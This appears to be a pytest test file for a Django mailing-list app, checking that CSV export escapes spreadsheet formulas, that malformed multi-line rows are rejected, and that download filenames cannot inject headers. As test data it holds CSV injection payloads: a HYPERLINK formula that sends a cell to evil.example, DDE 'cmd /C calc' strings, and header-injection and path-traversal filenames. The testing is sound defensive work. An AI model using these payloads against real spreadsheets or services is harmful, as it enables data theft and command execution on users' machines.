"""CSV in and out, as a hostile file would try it (issue 11, table rows #7, #9 and #13).

Out: cells a spreadsheet would run as a formula are escaped (an apostrophe in front) in the
export and the rejected-rows report, and an export imports back unchanged. In: a record that
spans lines (a quote left open) is rejected with its lines, or fails the file when it runs to
the end, never merging two people. Download names cannot inject into Content-Disposition.
"""

import csv
import io
import random
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from recipients.admin.imports import download_name
from recipients.csv_cells import FORMULA_STARTS, escape_value, safe_cell, unescape_cell
from recipients.models import ImportRun, List, Recipient
from tests.conftest import run_worker_burst

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


def write(tmp_path: Path, text: str, name: str = "people.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def import_file(path: Path, slug: str = "news") -> str:
    out = io.StringIO()
    call_command("import_recipients", str(path), "--list", slug, "--no-progress", stdout=out)
    return out.getvalue()


def export(slug: str = "news") -> list[list[str]]:
    out = io.StringIO()
    call_command("export_recipients", "--list", slug, stdout=out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def hostile_file() -> str:
    rows = [
        ["email", "first_name", "last_name", "=cmd|'/C calc'!A0", "note"],
        ["a@example.com", HYPERLINK, CMD, SUM, MINUS],
        # An apostrophe before a formula character is taken off (escaped by an export); one
        # that escapes nothing is kept.
        ["b@example.com", "O'Brien", "'quoted", "''=once escaped", "'-1"],
        ["=c@example.com", "Cy", "", "", ""],
    ]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


# --- out: formula escaping ------------------------------------------------------------------


def test_table_7_formula_cells_are_escaped_in_the_export(tmp_path):
    import_file(write(tmp_path, hostile_file()))
    a = Recipient.objects.get(email="a@example.com")
    # Stored as given: escaping is a matter of the file, not of the data.
    assert (a.first_name, a.last_name) == (HYPERLINK, CMD)
    assert a.attributes == {"=cmd|'/C calc'!A0": SUM, "note": MINUS}

    rows = export()
    header = ["email", "first_name", "last_name", "external_id", "'=cmd|'/C calc'!A0", "note"]
    assert rows[0] == header
    by_email = {row[0]: row for row in rows[1:]}
    assert by_email["a@example.com"][1:3] == ["'" + HYPERLINK, "'" + CMD]
    assert by_email["a@example.com"][4:] == ["'" + SUM, "'" + MINUS]
    # An address may itself begin with "=": escaped like any cell.
    assert "'=c@example.com" in by_email
    # An apostrophe that escapes nothing is kept; one before a formula gets one more.
    b = Recipient.objects.get(email="b@example.com")
    assert (b.last_name, b.attributes["note"]) == ("'quoted", "-1")
    assert b.attributes["=cmd|'/C calc'!A0"] == "'=once escaped"
    assert by_email["b@example.com"][1:] == ["O'Brien", "'quoted", "", "''=once escaped", "'-1"]
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, cell


def test_an_escaped_export_imports_back_unchanged(tmp_path):
    import_file(write(tmp_path, hostile_file()))
    before = {r.email: (r.first_name, r.last_name, r.attributes) for r in Recipient.objects.all()}
    exported = io.StringIO()
    csv.writer(exported).writerows(export())
    out = import_file(write(tmp_path, exported.getvalue(), "export.csv"))
    assert "0 created, 0 updated, 3 unchanged, 0 rejected" in out
    after = {r.email: (r.first_name, r.last_name, r.attributes) for r in Recipient.objects.all()}
    assert after == before


def test_table_7_formula_cells_are_escaped_in_the_rejected_rows_report(tmp_path):
    text = "email,first_name,=evil\n" + "\n".join(
        [f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",Ann,x', f"not-an-address,{CMD},{SUM}"]
    )
    path = write(tmp_path, text + "\n")
    out = import_file(path)
    assert "2 rejected" in out
    report = list(csv.reader((tmp_path / "people.csv.rejected.csv").open(newline="")))
    assert report[0] == ["line", "reason", "email", "first_name", "'=evil"]
    assert report[1][0] == "2" and report[1][2:] == ["'" + HYPERLINK, "Ann", "x"]
    assert report[2][0] == "3" and report[2][2:] == ["not-an-address", "'" + CMD, "'" + SUM]
    for row in report:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, cell


def test_escaping_round_trips_for_any_value():
    """Property-style: for many generated values, the export's escaping is undone exactly by
    the import's, and no escaped cell begins with a formula character."""
    rng = random.Random(11)
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", "1", " ", '"', ","]
    values = ["", "'", "''", "=", "'=", "''=x", "\t", "'\r", "-1", "a'=b"]
    values += ["".join(rng.choices(alphabet, k=rng.randint(1, 6))) for _ in range(5000)]
    for value in values:
        cell = escape_value(value)
        assert cell[:1] not in FORMULA_STARTS, repr(value)
        back = unescape_cell(cell) if cell[:1] == "'" else cell
        assert back == value, repr(value)
        # A cell as given keeps its meaning through the report.
        given = safe_cell(value)
        assert given[:1] not in FORMULA_STARTS
        assert (unescape_cell(given) if given[:1] == "'" else given) == (
            unescape_cell(value) if value[:1] == "'" else value
        ), repr(value)


# --- in: malformed rows ---------------------------------------------------------------------


def test_table_13_a_quote_left_open_rejects_the_row_with_its_lines(tmp_path):
    text = 'email,first_name\na@x.com,"Ann\nb@x.com,Bob"\nc@x.com,Cy\nd@x.com,Dee,extra\ne@x.com\n'
    out = import_file(write(tmp_path, text))
    assert "4 rows: 1 created, 0 updated, 0 unchanged, 3 rejected" in out
    # The command's output names the lines; b@x.com is not silently lost.
    assert "line 2: a field holds a line break, so this row runs from line 2 to line 3" in out
    assert "Line 3 was read into it" in out
    assert "line 5: the row has 3 fields; the header has 2" in out
    assert "line 6: the row has 1 fields; the header has 2" in out
    assert list(Recipient.objects.values_list("email", "first_name")) == [("c@x.com", "Cy")]
    report = list(csv.reader((tmp_path / "people.csv.rejected.csv").open(newline="")))
    assert [row[0] for row in report[1:]] == ["2", "5", "6"]
    assert report[1][2:] == ["a@x.com", "Ann\nb@x.com,Bob"]  # b's line, in the report


def test_table_13_a_quote_open_to_the_end_of_the_file_fails_the_file(tmp_path):
    text = 'email,first_name\nz@x.com,Zed\na@x.com,"Ann\nb@x.com,Bob\nc@x.com,Cy\n'
    with pytest.raises(CommandError) as error:
        import_file(write(tmp_path, text))
    message = str(error.value)
    assert "The row that starts on line 3 runs to the end of the file (line 5)" in message
    assert "Nothing was imported" in message
    assert not Recipient.objects.exists() and not List.objects.exists()


@pytest.mark.parametrize("newline", ["\r\n", "\r"])
def test_line_breaks_in_a_field_are_found_whatever_the_line_ending(tmp_path, newline):
    text = newline.join(["email,first_name", 'a@x.com,"A' + newline + 'nn"', "c@x.com,Cy", ""])
    out = import_file(write(tmp_path, text))
    assert "line 2: a field holds a line break" in out
    assert list(Recipient.objects.values_list("email", flat=True)) == ["c@x.com"]


def test_a_header_with_a_line_break_fails_the_file(tmp_path):
    with pytest.raises(CommandError, match="The header row runs over lines 1 to 2"):
        import_file(write(tmp_path, 'email,"first\nname"\na@x.com,Ann\n'))


def test_blank_lines_do_not_count_as_line_breaks_in_a_field(tmp_path):
    out = import_file(write(tmp_path, "email,first_name\n\na@x.com,Ann\n\n\nb@x.com,Bob\n"))
    assert "2 created" in out and "0 rejected" in out


@pytest.mark.django_db(transaction=True)
def test_table_13_and_7_through_the_admin_import_job(admin_client):
    text = f'email,first_name\na@x.com,"Ann\nb@x.com,Bob"\nc@x.com,"{CMD}"\n'
    response = admin_client.post(
        reverse("admin:recipients_import"),
        {
            "file": SimpleUploadedFile("people.csv", text.encode(), content_type="text/csv"),
            "list_slug": "news",
            "encoding": "utf-8-sig",
        },
    )
    assert response.status_code == 302
    run_worker_burst()
    run = ImportRun.objects.get()
    assert (run.status, run.rows, run.created, run.rejected) == ("done", 2, 1, 1)
    report = admin_client.get(reverse("admin:recipients_import_report", args=[run.pk]))
    rows = list(csv.reader(io.StringIO(report.content.decode())))
    assert rows[1][:2] == [
        "2",
        "a field holds a line break, so this row runs from line 2 to line 3 (a quote left "
        "open?). Line 3 was read into it, not imported on their own: close the quote and "
        "import them again",
    ]
    assert Recipient.objects.get().first_name == CMD


# --- download names -------------------------------------------------------------------------


def multipart_upload(filename: str, data: bytes) -> bytes:
    """The import form's body as a client sends it, the file name quoted with backslash
    escapes (Django's test client would not escape the quotes at all)."""
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts = [
        f'Content-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
        "Content-Type: text/csv\r\n\r\n".encode()
        + data,
        b'Content-Disposition: form-data; name="list_slug"\r\n\r\nnews',
        b'Content-Disposition: form-data; name="encoding"\r\n\r\nutf-8-sig',
    ]
    return b"".join(b"--BOUNDARY\r\n" + part + b"\r\n" for part in parts) + b"--BOUNDARY--\r\n"


@pytest.mark.django_db(transaction=True)
def test_table_9_an_upload_name_cannot_inject_into_the_report_download(admin_client):
    hostile = 'x"; filename=evil.exe; a=".csv'
    response = admin_client.post(
        reverse("admin:recipients_import"),
        data=multipart_upload(hostile, b"email\nbroken\n"),
        content_type="multipart/form-data; boundary=BOUNDARY",
    )
    assert response.status_code == 302
    run_worker_burst()
    run = ImportRun.objects.get()
    assert (run.filename, run.rejected) == (hostile, 1)
    report = admin_client.get(reverse("admin:recipients_import_report", args=[run.pk]))
    assert report["Content-Disposition"] == (
        'attachment; filename="x_filename_evil.exe_a-rejected.csv"'
    )


@pytest.mark.parametrize(
    ("uploaded", "expected"),
    [
        ("people.csv", "people-rejected.csv"),
        ("../../etc/passwd", "passwd-rejected.csv"),
        ("C:\\Users\\ann\\list.csv", "list-rejected.csv"),
        ("Müller; Straße.csv", "Muller_Strae-rejected.csv"),
        ("a\r\nSet-Cookie: x=1.csv", "a_Set-Cookie_x_1-rejected.csv"),
        ('"";.csv', "import-rejected.csv"),
        ("", "import-rejected.csv"),
        ("x" * 300 + ".csv", "x" * 100 + "-rejected.csv"),
    ],
)
def test_download_names_are_ascii_without_quotes_separators_or_paths(uploaded, expected):
    assert download_name(uploaded, suffix="-rejected.csv") == expected
